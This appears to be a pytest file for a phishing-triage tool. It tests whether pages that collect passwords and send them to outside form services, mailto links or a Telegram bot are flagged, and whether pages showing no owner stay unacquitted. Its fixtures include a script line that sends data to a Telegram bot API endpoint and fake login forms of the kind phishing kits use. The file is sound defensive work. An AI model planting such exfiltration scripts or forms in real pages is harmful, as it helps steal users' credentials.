"""Where what is typed goes, and which pages are not acquitted because nothing shows whose they are."""

import pytest

from scamtriage.records.assessment import Verdict
from scamtriage.score.verdict import UNPROVEN
from tests.signals.test_whose import nats, row

LENT = "brook-meadow-4.github.io"
HONEST = "<h1>Our library</h1><p>Please sign in to see your reading list, your loans and the opening hours of the branch next to you.</p>"
BOT = "<script>fetch('https://api.telegram.org/bot5551234567:AAE4kd93kLmNoPqRsTuVwXyZ0123456789a/sendMessage?chat_id=1')</script>"
FIELDS = {
    "secret": "<input name=user placeholder=Email><input type=password name=pw placeholder=Password>",
    "message": "<input name=name placeholder='Full name'><input type=email name=email><textarea name=message></textarea>",
    "document": "<input name=name placeholder='Full name'><input type=file name=cv>",
}


def form(fields: str, action: str) -> str:
    return f'{HONEST}<form method=post action="{action}">{FIELDS[fields]}<button>Send</button></form>'


@pytest.mark.parametrize(
    ("fields", "action", "more", "away"),
    [
        ("secret", "", BOT, True),
        ("secret", "https://formsubmit.co/a1b2", "", True),
        ("secret", "https://script.google.com/macros/s/x/exec", "", True),
        ("secret", "mailto:someone@example.com", "", True),
        ("secret", "/login", "", False),
        ("secret", "https://login.microsoftonline.com/common", "", False),
        ("message", "", BOT, False),
        ("message", "https://formspree.io/f/abc", "", False),
        ("document", "https://formspree.io/f/abc", "", False),
    ],
)
def test_words_acquit_of_nothing_where_secrets_go_to_a_stranger(fields: str, action: str, more: str, *, away: bool) -> None:
    judged = row(LENT, form(fields, action) + more, age_days=-1)
    found = nats(judged)
    assert ("http-secrets-away" in found) is away
    assert (min(found.get("page-wording", 0.0), found.get("page-ways", 0.0)) >= 0.0) is away


@pytest.mark.parametrize(("age_days", "away"), [(20, True), (400, False)])
def test_a_firm_of_some_age_may_rent_its_log_in(age_days: int, *, away: bool) -> None:
    found = nats(row("meadowbrook-yoga.com", form("secret", "https://members.studio-desk.net/login"), age_days=age_days))
    assert ("http-secrets-away" in found) is away and "http-form-foreign-post" in found


@pytest.mark.parametrize(
    ("host", "age_days", "html", "unproven"),
    [
        (LENT, -1, form("secret", "/login"), True),
        (LENT, -1, "<title>Welcome</title><img src=offer.gif><p>Click the picture to go on</p>", True),
        (LENT, -1, form("message", "/send"), True),
        (LENT, -1, HONEST * 3 + form("message", "/send"), False),
        (LENT, -1, form("secret", "/login") + "<p>12 Jalan Ampang, 50450 Kuala Lumpur</p>", False),
        ("meadowbrook-library.org", 900, form("secret", "/login"), False),
        ("meadowbrook-library.org", 100, form("secret", "/login"), True),
        ("meadowbrook-library.org", 100, HONEST * 12 + form("secret", "/login"), False),
    ],
)
def test_who_takes_a_secret_and_shows_no_owner_is_not_acquitted(host: str, age_days: int, html: str, *, unproven: bool) -> None:
    judged = row(host, html, age_days=age_days)
    if unproven:
        assert "page-unproven" in nats(judged) and judged.verdict.rank >= Verdict.NO_FINDING.rank
        assert judged.log_odds >= -0.75 or UNPROVEN in judged.held_back
    else:
        assert UNPROVEN not in judged.held_back and judged.verdict is Verdict.LIKELY_BENIGN
